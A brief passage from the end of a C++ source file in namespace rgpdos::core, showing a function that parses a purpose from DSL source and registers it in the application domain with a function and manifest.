                        dsl::ParsePurpose(dsl_source));
  return ps_->Register(sentinel::Domain::kApplication, std::move(purpose),
                       std::move(fn), std::move(manifest));
}

}  // namespace rgpdos::core
